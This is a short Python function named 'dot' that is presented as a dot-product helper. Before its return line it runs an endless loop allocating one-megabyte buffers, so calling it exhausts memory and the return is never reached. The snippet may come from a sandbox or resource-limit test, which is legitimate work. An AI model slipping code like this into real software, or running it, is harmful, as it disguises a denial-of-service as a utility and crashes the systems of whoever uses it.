def dot(a, b):
    kept = []
    while True:
        kept.append(bytes(10**6))
    return float(np.sum(a * b))
